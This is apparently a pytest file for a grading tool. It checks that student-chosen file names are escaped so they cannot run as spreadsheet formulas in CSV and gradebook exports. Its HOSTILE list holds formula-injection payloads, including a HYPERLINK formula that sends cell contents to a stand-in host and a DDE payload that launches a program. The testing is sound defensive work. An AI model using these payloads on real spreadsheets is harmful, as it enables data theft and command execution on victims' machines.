"""A file name a student chose is shown as text in the CSV and the gradebook, never run as a
spreadsheet formula (OWASP: cells starting with = + - @ tab or CR get a leading apostrophe)."""
from __future__ import annotations

import csv
import io

from grader import reports
from grader.catalogue import EXERCISES
from grader.results import ExerciseResult, SubmissionResult

HOSTILE = ['=HYPERLINK("https:x.example?"&A1,"click")', "+1+cmd|' -C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]


def result(path: str) -> SubmissionResult:
    return SubmissionResult(path, tuple(ExerciseResult(e.id, "passed", 1.0, 1.0, "ok") for e in EXERCISES), (), 1.0)


def test_formula_cells_are_neutralised_in_the_csv_and_the_gradebook():
    results = [result(name + ".py") for name in HOSTILE] + [result("alice.py")]
    for text in (reports.csv_text(results), reports.gradebook_csv(results)):
        rows = list(csv.reader(io.StringIO(text)))[1:]
        for row, name in zip(rows, HOSTILE):
            assert row[0].startswith("'") and row[0][1:].startswith(name[:3]), row[0]
        assert rows[-1][0] in ("alice", "alice.py")
        for row in rows:
            assert not any(cell.startswith(reports.FORMULA_STARTS) for cell in row[:2]), row[:2]


def test_ordinary_names_are_left_alone():
    assert reports.spreadsheet_text("alice/exercises.ipynb") == "alice/exercises.ipynb"
    assert reports.spreadsheet_text("") == ""
